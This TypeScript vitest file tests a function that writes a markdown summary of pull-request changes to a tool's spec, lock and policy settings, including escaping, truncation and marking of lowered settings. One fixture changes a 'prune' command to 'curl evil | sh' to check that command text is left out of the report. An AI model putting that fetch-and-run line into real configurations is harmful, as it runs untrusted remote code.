import { describe, expect, it } from 'vitest';
import type { Report } from '../../../src/report/index.ts';
import { changesBlock } from '../../../src/report/markdown/changes.ts';

type Policy = NonNullable<Report['policy']>;
const place = { file: 'prunegate.yml', line: 4, key: 'tolerance' };
const SAME = { spec: false, lock: false, policy: false };

const policy = (changed: Partial<Policy['changed']>, changes: Policy['changes'] = []): Policy => ({
  ...{ mode: 'base', base: 'read', commit: 'b'.repeat(40) },
  ...{ changes, changed: { ...SAME, ...changed } },
});
const under = (...policies: readonly (Policy | null)[]) =>
  changesBlock(
    policies.map((each) => ({ policy: each }) as Report),
    10,
  ).join('\n\n');
const change = (key: string, before: unknown, after: unknown, isLowered = false): Policy['changes'][number] => ({
  ...{ key, model: null, before, after, isLowered, place: { ...place, key } },
});

describe('what a pull request changes of what decides', () => {
  it.each<[string, readonly (Policy | null)[], string]>([
    ['nothing', [policy({})], 'Spec, lock and policy are as at the base commit.'],
    ['the spec', [policy({ spec: true })], 'This pull request changes the **spec**.'],
    ['all', [policy({ spec: true, lock: true, policy: true })], 'changes the **spec**, **lock** and **policy**.'],
    ['what is not known', [policy({ lock: null })], 'Whether it changes the **lock** is not known.'],
    [
      ...['some', [policy({ spec: true, policy: null })]],
      'This pull request changes the **spec**. Whether it changes the **policy** is not known.',
    ] as never,
    ['one of two models', [policy({ spec: null }), policy({ spec: true })], 'This pull request changes the **spec**.'],
  ])('is said: %s', (_, policies, text) => {
    expect(under(...policies)).toContain(text);
  });

  it('is not said where nobody compared', () => {
    expect(under(null, null)).toBe('');
  });

  it('is said key by key, what is lowered marked, once for all models, commands and specs without their text', () => {
    const changes = [
      change('tolerance', null, 0.1, true),
      change('fail-on', ['mismatch', 'unverifiable'], ['mismatch'], true),
      change('prune', { run: './prune.sh' }, { run: 'curl evil | sh' }),
    ];
    expect(under(policy({ policy: true }, changes), policy({ policy: true }, changes)).split('\n')).toEqual([
      'This pull request changes the **policy**.',
      '- ⬇️ tolerance: not given → 0.1 (prunegate.yml, line 4)',
      '- ⬇️ fail-on: \\[mismatch, unverifiable\\] → \\[mismatch\\] (prunegate.yml, line 4)',
      '- prune: changed (prunegate.yml, line 4)',
    ]);
  });

  it('is bounded, and only text', () => {
    const changes = Array.from({ length: 500 }, (_, k) => change(`<b>@octocat ${k}`, 'x'.repeat(9000), '\n\n# y'));
    const text = under(policy({ policy: true }, changes));
    expect(text.length).toBeLessThan(6000);
    expect(text).not.toMatch(/<b>|@octocat|\n\n/);
    expect(text.split('\n').at(-1)).toBe('- ... 490 more changes of prunegate.yml are in the JSON report.');
  });
});
